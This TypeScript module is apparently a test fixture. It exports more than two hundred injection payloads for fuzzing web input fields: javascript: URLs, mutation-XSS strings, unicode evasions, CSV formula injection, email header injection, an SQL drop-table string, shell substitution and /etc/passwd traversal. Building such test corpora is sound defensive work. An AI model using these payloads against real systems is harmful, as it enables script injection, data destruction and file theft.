import { MARKUP } from './script-markup.ts';

/**
 * What people type who want a page to run their script, by family: from the lists that everybody has (OWASP's evasion sheet, PortSwigger's, html5sec) in our own
 * words. Each calls `pwned()`, or something that a browser shows, where a page is careless. None is longer than 120 characters, so that most boxes take them.
 */
const FAMILIES: Record<string, readonly string[]> = {
  ...MARKUP,
  addresses: [
    'javascript:pwned()',
    'JaVaScRiPt:pwned()',
    ' javascript:pwned()',
    'java\tscript:pwned()',
    'java\nscript:pwned()',
    '\u0001javascript:pwned()',
    'javascript://%0apwned()',
    'javascript:/*--></title></style></textarea></script><svg/onload=pwned()>',
    'javascript&colon;pwned()',
    'javascript&#58;pwned()',
    'data:text/html,<script>pwned()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
    'vbscript:pwned()',
    'view-source:javascript:pwned()',
    'blob:javascript:pwned()',
    '//localhost/%0d%0aX-Pwned:1',
    '<a href=javascript:pwned()>x</a>',
    '<a href="jav&#x09;ascript:pwned()">x</a>',
    '<a href="javascript&NewLine;:pwned()">x</a>',
    '[x](javascript:pwned())',
    '![x](x"onerror="pwned())',
    '<form action=javascript:pwned()><button>x</button></form>',
    '<button formaction=javascript:pwned()>x</button>',
    'https://x" onmouseover="pwned()',
  ],
  mutations: [
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
    '<xmp><p title="</xmp><img src=x onerror=pwned()>">',
    '<style><p title="</style><img src=x onerror=pwned()>">',
    '<textarea><p title="</textarea><img src=x onerror=pwned()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    '<math><mi></mi><style><p title="</style><img src=x onerror=pwned()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
    '<table><td><svg><desc><td></desc><img src=x onerror=pwned()>',
    '<template><script>pwned()</script></template>',
    '<template shadowrootmode=open><img src=x onerror=pwned()></template>',
    '<select><template><img src=x onerror=pwned()></template></select>',
    '<plaintext><img src=x onerror=pwned()>',
    '<!--><img src=x onerror=pwned()>-->',
    '<!--[if IE]><img src=x onerror=pwned()><![endif]-->',
    '<![CDATA[<img src=x onerror=pwned()>]]>',
    '<img src="`"onerror=pwned()//',
    '{{constructor.constructor("pwned()")()}}',
    '\x24{pwned()}',
    '#{pwned()}',
    '<%= pwned() %>',
    '{{{<img src=x onerror=pwned()>}}}',
    '$t(platform.close) $t({{x}}, {"x":"<img src=x onerror=pwned()>"})',
    '__proto__[innerHTML]=<img src=x onerror=pwned()>',
  ],
  unicode: [
    '\uff1cscript\uff1epwned()\uff1c/script\uff1e',
    '\u2039script\u203apwned()\u2039/script\u203a',
    '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
    '%3Cscript%3Epwned()%3C/script%3E',
    '%253Cscript%253Epwned()%253C/script%253E',
    '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
    '\\x3cscript\\x3epwned()\\x3c/script\\x3e',
    '&lt;script&gt;pwned()&lt;/script&gt;',
    '&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;',
    '<\u200bscript>pwned()</script>',
    '<script\u2028>pwned()</script>',
    '<img src=x onerror\u00a0=pwned()>',
    '\u202e<script>pwned()</script>',
    '\u2066\u202e<img src=x onerror=pwned()>\u202c\u2069',
    '\ufeff<script>pwned()</script>',
    '\u0130<img src=x onerror=pwned()>',
    '<\u017fcript>pwned()</\u017fcript>',
    '\u{1f468}\u200d<img src=x onerror=pwned()>\u200d\u{1f469}',
    'a\u0301\u0301\u0301\u0301\u0301<svg onload=pwned()>',
    '<img src=x onerror=pwned()\u2029>',
  ],
  others: [
    '=1+1',
    '=HYPERLINK("javascript:pwned()","x")',
    "=cmd|'/c calc'!A1",
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    'x\r\nBcc: pwned@localhost',
    'x\nBcc: pwned@localhost',
    'x\r\n\r\n<script>pwned()</script>',
    'x%0d%0aSet-Cookie: pwned=1',
    'x\r\nContent-Type: text/html\r\n\r\n<script>pwned()</script>',
    'x\u2028Bcc: pwned@localhost',
    'x\u0085Bcc: pwned@localhost',
    '=?utf-8?B?DQpCY2M6IHB3bmVkQGxvY2FsaG9zdA==?=',
    '"><script>pwned()</script>" <pwned@localhost>',
    '\u202epwned()\u202c',
    "'; drop table help_requests; --",
    '$(pwned)',
    '`pwned`',
    '../../../etc/passwd',
  ],
};

/** Every one of them; more than two hundred, no two alike. */
export const SCRIPT_PAYLOADS: readonly string[] = [...new Set(Object.values(FAMILIES).flat())];

/** Some of every family. */
export const SOME_SCRIPT_PAYLOADS: readonly string[] = Object.values(FAMILIES).flatMap((family) => family.slice(0, 3));

/** The same, several at once, as many as a box of so many characters takes. */
export function scriptsFor(longest: number, payloads = SCRIPT_PAYLOADS): string[] {
  const boxes = [''];
  for (const payload of payloads) {
    const together = `${boxes.at(-1)} ${payload}`.trim();
    if (together.length <= longest) boxes[boxes.length - 1] = together;
    else boxes.push(payload.trim());
  }
  return boxes;
}
